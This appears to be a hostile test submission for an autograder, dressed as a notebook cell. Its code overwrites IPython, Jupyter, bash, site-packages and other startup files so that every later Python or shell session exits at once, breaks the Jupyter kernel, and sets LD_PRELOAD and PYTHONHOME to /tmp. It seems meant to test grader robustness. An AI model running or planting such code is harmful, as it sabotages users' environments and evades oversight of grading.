"""Leaves whatever the next Python, IPython, Keras or shell would run at its start, and ends the process, so that a next one comes.
---
assignment = "residual_networks"
category = "surviving"
allowed_status = ["graded", "crashed"]
marker = "startup_was_here"
[score]
conv_arithmetic = 0.0
---
"""
# %% conv_arithmetic
import json
import os
import pathlib
import site

home = pathlib.Path.home()
code = "import os\nopen('startup_was_here', 'w').close()\nos._exit(0)\n"
files = {
    home / ".ipython/profile_default/startup/00.py": code,
    home / ".ipython/profile_default/ipython_config.py": code,
    home / ".jupyter/jupyter_config.py": code,
    home / ".local/share/jupyter/kernels/python3/kernel.json": json.dumps({"argv": ["/bin/false"], "language": "python"}),
    home / ".keras/keras.json": json.dumps({"backend": "none of them", "floatx": "float16"}),
    home / ".config/matplotlib/matplotlibrc": "backend: nothing\n",
    home / ".pdbrc": code,
    home / ".bashrc": "touch startup_was_here; exit 0\n",
    pathlib.Path(site.getusersitepackages()) / "usercustomize.py": code,
    pathlib.Path(site.getusersitepackages()) / "first.pth": "import os; os._exit(0)\n",
    pathlib.Path("sitecustomize.py"): code,
    pathlib.Path("ipython_config.py"): code,
    pathlib.Path("/tmp/labkit.py"): code,
    pathlib.Path("/dev/shm/startup.py"): code,
}
for path, text in files.items():
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    except OSError as error:
        print(path, error)
os.environ.update({"LD_PRELOAD": "/tmp/x.so", "PYTHONPATH": "/tmp", "PYTHONSTARTUP": "/tmp/labkit.py", "PYTHONHOME": "/tmp", "HOME": "/tmp"})
os._exit(0)
